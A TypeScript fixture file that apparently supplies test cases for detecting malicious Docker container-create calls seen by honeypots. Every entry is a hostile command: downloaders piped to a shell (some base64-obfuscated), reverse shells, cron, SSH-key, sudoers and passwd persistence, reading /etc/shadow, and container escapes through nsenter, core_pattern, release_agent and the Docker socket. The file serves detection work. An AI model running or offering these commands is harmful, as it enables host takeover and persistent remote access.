import { container } from '../entry';
import { base64 } from './payload';

const SEEN = 'create calls that open Docker API honeypots recorded and published';

/** What strangers ask of an engine that listens to everybody. Addresses are those kept for documentation. */
export const HONEYPOT = [
  container(
    'alpine chroots into the host and pipes base64 to sh',
    SEEN,
    `-v /:/mnt alpine chroot /mnt /bin/sh -c "echo ${base64('curl -s http://198.51.100.7/cronb.sh | bash')} | base64 -d | sh"`,
  ),
  container(
    'alpine writes a cron file of the host',
    SEEN,
    `-v /:/host alpine sh -c "echo '* * * * * root curl -s http://198.51.100.7/i.sh|sh' > /host/etc/cron.d/zzh"`,
  ),
  container(
    'alpine adds a key to root',
    SEEN,
    `--rm -v /:/mnt alpine sh -c "mkdir -p /mnt/root/.ssh && echo ssh-ed25519 AAAAC3Nz x@y >> /mnt/root/.ssh/authorized_keys"`,
  ),
  container(
    'alpine has only /root/.ssh and adds a key',
    SEEN,
    `-v /root/.ssh:/k alpine sh -c "echo ssh-rsa AAAAB3 x >> /k/authorized_keys"`,
  ),
  container(
    'alpine has only /etc/cron.d',
    SEEN,
    `-v /etc/cron.d:/c alpine sh -c "wget -qO /c/sys http://198.51.100.9/c"`,
  ),
  container(
    'ubuntu has /var/spool/cron',
    SEEN,
    `-v /var/spool/cron:/x ubuntu:18.04 bash -c "printf '*/5 * * * * wget -qO- http://203.0.113.4/m|sh\\n' >> /x/crontabs/root"`,
  ),
  container(
    'nsenter into the first process',
    SEEN,
    `--privileged --pid=host alpine nsenter -t 1 -m -u -n -i sh -c "curl -s http://203.0.113.5/a | sh"`,
  ),
  container(
    'nsenter with long options',
    SEEN,
    `--privileged --pid=host debian:12 nsenter --target 1 --mount --uts --ipc --net -- bash -c "id > /tmp/o"`,
  ),
  container(
    'nsenter through the network host too',
    SEEN,
    `--privileged --pid=host --network=host --restart=always busybox nsenter --target=1 --mount sh`,
  ),
  container(
    'privileged with host pid, kept alive',
    SEEN,
    `-d --privileged --pid=host --network=host --restart=always ubuntu tail -f /dev/null`,
  ),
  container('the host bound, nothing said', SEEN, `-d -v /:/mnt alpine sleep 9999999`),
  container('the host bound under another name', SEEN, `--name web -d -v /:/hostfs --restart=always busybox sh`),
  container('the host bound with doubled slash', SEEN, `-v //:/a alpine cat /a/etc/shadow`),
  container('reads the shadow file, read-only', SEEN, `--rm -v /:/h:ro alpine cat /h/etc/shadow`),
  container('writes ld.so.preload', SEEN, `-v /etc:/e alpine sh -c "echo /usr/local/lib/libs.so > /e/ld.so.preload"`),
  container(
    'adds an account without password',
    SEEN,
    `-v /etc:/e alpine sh -c "echo 'sys:x:0:0::/root:/bin/bash' >> /e/passwd"`,
  ),
  container(
    'adds a sudo rule',
    SEEN,
    `-v /etc/sudoers.d:/s busybox sh -c "echo 'www-data ALL=(ALL) NOPASSWD: ALL' > /s/90-cloud"`,
  ),
  container('places a unit', SEEN, `-v /etc/systemd/system:/u alpine sh -c "cp /tmp/a.service /u/dbus-org.service"`),
  container(
    'chroot through /test',
    SEEN,
    `-v /:/test alpine chroot /test bash -c "wget http://198.51.100.3/x.sh -O-|bash"`,
  ),
  container(
    'chroot through an odd directory',
    SEEN,
    `-v /:/qwe alpine chroot /qwe sh -c "curl http://198.51.100.3/x.sh|bash"`,
  ),
  container(
    'curl to a shell, nothing bound',
    SEEN,
    `alpine sh -c "apk add curl; curl -fsSL http://198.51.100.8/init_script | sh"`,
  ),
  container(
    'wget to bash, ubuntu',
    SEEN,
    `ubuntu bash -c "apt-get update && apt-get install -y wget && wget -q -O - http://198.51.100.8/d.sh | bash"`,
  ),
  container(
    'fetches, makes executable, runs',
    SEEN,
    `alpine sh -c "wget http://198.51.100.8/xm -O /tmp/xm; chmod +x /tmp/xm; /tmp/xm"`,
  ),
  container(
    'fetches with curl, makes executable, runs in the background',
    SEEN,
    `debian bash -c "cd /tmp && curl -sO http://203.0.113.8/dbused && chmod 777 dbused && ./dbused &"`,
  ),
  container(
    'fetches with busybox and runs in shared memory',
    SEEN,
    `alpine sh -c "cd /dev/shm; busybox wget http://203.0.113.8/b; chmod 755 b; ./b"`,
  ),
  container(
    'python fetches and executes',
    SEEN,
    `python:3-alpine python -c "import urllib.request as u;exec(u.urlopen('http://203.0.113.8/p.py').read())"`,
  ),
  container(
    'python with requests executes',
    SEEN,
    `python:3 python3 -c "import os;os.system('curl -s http://203.0.113.8/a.sh|bash')"`,
  ),
  container('perl bot', SEEN, `perl perl -e "use LWP::Simple; eval get('http://203.0.113.8/bot.pl')"`),
  container(
    'bash device instead of curl',
    SEEN,
    `debian bash -c "exec 3<>/dev/tcp/203.0.113.8/80; echo -e 'GET /i HTTP/1.0\\n' >&3; cat <&3 | bash"`,
  ),
  container('a reverse shell', SEEN, `ubuntu bash -c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"`),
  container('netcat hands out a shell', SEEN, `alpine nc 203.0.113.9 9001 -e /bin/sh`),
  container(
    'mkfifo and netcat',
    SEEN,
    `alpine sh -c "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 9001 >/tmp/f"`,
  ),
  container(
    'double base64',
    SEEN,
    `-v /:/mnt alpine sh -c "echo ${base64(`echo ${base64('wget -qO- http://203.0.113.2/x | sh')} | base64 -d | bash`)} | base64 -d | bash"`,
  ),
  container(
    'base64 into bash without a bind',
    SEEN,
    `ubuntu bash -c "echo ${base64('apt install -y curl; curl -s http://203.0.113.2/s | sh')}|base64 --decode|bash"`,
  ),
  container(
    'openssl decodes',
    SEEN,
    `alpine sh -c "echo ${base64('wget -qO- http://203.0.113.2/x | sh')} | openssl base64 -d -A | sh"`,
  ),
  container('an address with an eval', SEEN, `ubuntu bash -c "eval $(curl -fsSL http://203.0.113.2/e)"`),
  container('process substitution', SEEN, `ubuntu bash -c "bash <(curl -s http://203.0.113.2/setup.sh)"`),
  container(
    'two urls, one falls back',
    SEEN,
    `alpine sh -c "(curl -s http://203.0.113.2/s || wget -qO- http://203.0.113.2/s) | sh"`,
  ),
  container(
    'tor fetches',
    SEEN,
    `alpine sh -c "apk add tor curl; tor & sleep 30; curl -x socks5h://127.0.0.1:9050 http://${'a2b3c4d5e6f7g2h3'.padEnd(56, 'q')}.onion/s.sh | sh"`,
  ),
  container(
    'proc escape over core_pattern',
    SEEN,
    `--privileged alpine sh -c "echo '|/tmp/x' > /proc/sys/kernel/core_pattern; wget -qO- http://203.0.113.2/x|sh"`,
  ),
  container(
    'release_agent escape',
    SEEN,
    `--privileged ubuntu bash -c "mkdir /tmp/c; mount -t cgroup -o rdma cgroup /tmp/c; mkdir /tmp/c/x; echo 1 > /tmp/c/x/notify_on_release; echo /cmd > /tmp/c/release_agent"`,
  ),
  container(
    'mounts the disk itself',
    SEEN,
    `--privileged alpine sh -c "mkdir /m; mount /dev/sda1 /m; chroot /m sh -c id"`,
  ),
  container(
    'the engine over its socket again',
    SEEN,
    `-v /var/run/docker.sock:/var/run/docker.sock alpine sh -c "apk add docker-cli; docker run -v /:/mnt --privileged alpine chroot /mnt sh"`,
  ),
];
